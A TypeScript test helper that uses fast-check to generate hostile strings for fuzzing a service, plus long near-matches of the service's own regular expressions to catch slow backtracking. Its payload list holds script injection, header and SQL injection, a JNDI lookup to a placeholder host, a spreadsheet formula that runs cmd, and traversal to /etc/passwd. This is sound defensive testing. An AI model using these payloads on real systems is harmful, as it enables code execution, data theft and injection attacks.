import { globSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { findPatterns } from '../drift/find-patterns.js';
import type { Markers } from './markers.js';

const ROOT = join(import.meta.dirname, '../..');

/** Long enough that a pattern which backtracks at each position takes seconds. */
const LONG = 50_000;

/** Generates, for each regular expression of the service, a long text that almost matches it many times. */
function almostMatches(): string[] {
  const files = globSync('src/**/*.ts', { cwd: ROOT, exclude: ['src/**/*.spec.ts'] }).toSorted();
  const patterns = files
    .flatMap((file) => findPatterns(file, readFileSync(join(ROOT, file), 'utf8')))
    .flatMap((found) => ('source' in found ? [found.source] : []));
  return [...new Set(patterns)].flatMap((source) => {
    // Removes anchors, and what fast-check cannot generate: lookarounds and named classes.
    const plain = source.replaceAll(/\(\?<?[!=][^)]*\)|(?<!\\)[$^]|\\p\{\w+\}/gi, '');
    try {
      const [piece = ''] = fc.sample(fc.stringMatching(new RegExp(plain)), { numRuns: 1, seed: 1 });
      return piece === ''
        ? []
        : [`${piece.slice(0, 50).repeat(Math.ceil(LONG / Math.min(50, piece.length)))}\u0001`];
    } catch {
      return [];
    }
  });
}

/** Generates texts that mean something to HTML, a header, a log, a path, a database, a spreadsheet or a regular expression. */
export function hostileTexts({ word, digits }: Markers): fc.Arbitrary<string> {
  const short = [
    word,
    digits,
    `<script>alert('${word}')</script>`,
    `"><img src=x onerror=${word}>`,
    `${word}\r\nX-Injected: ${word}`,
    `${word}\n{"event":"${word}"}`,
    `\u001b[31m${word}`,
    `'; drop table imports; -- ${word}`,
    `\${jndi:ldap://${word}.example/a}`,
    `{{${word}}}`,
    `=cmd|'/c ${word}'!A1`,
    `../../../../etc/passwd`,
    `%s%n${word}`,
    `${word}\u0000`,
    `${word}\u202e\u2066`,
    `\u{1f468}\u200d\u{1f469}\u200d\u{1f467}${word}`,
    `e\u0301${'\u0301'.repeat(500)}`,
    `\ufeff${word}`,
    `\udc00\ud800`,
    `ﷺ`.repeat(60),
    `${word}@example.com`,
    `${'a.'.repeat(100)}@${word}.example`,
    `"${word}"@example.com`,
    '0'.repeat(400),
    '9'.repeat(400),
    'NaN',
    '-0',
    '1e999',
    '0x10',
  ];
  const long = [
    ...almostMatches(),
    `${'a'.repeat(LONG)}@`,
    `${'a.'.repeat(LONG / 2)}@a`,
    `a@${'a.'.repeat(LONG / 2)}`,
    `a@${'a-'.repeat(LONG / 2)}`,
    ' '.repeat(LONG),
    `${' '.repeat(LONG)}x`,
  ];
  return fc.oneof(
    { weight: 12, arbitrary: fc.constantFrom(...short) },
    { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }).map((text) => word + text) },
    { weight: 1, arbitrary: fc.constantFrom(...long) },
  );
}
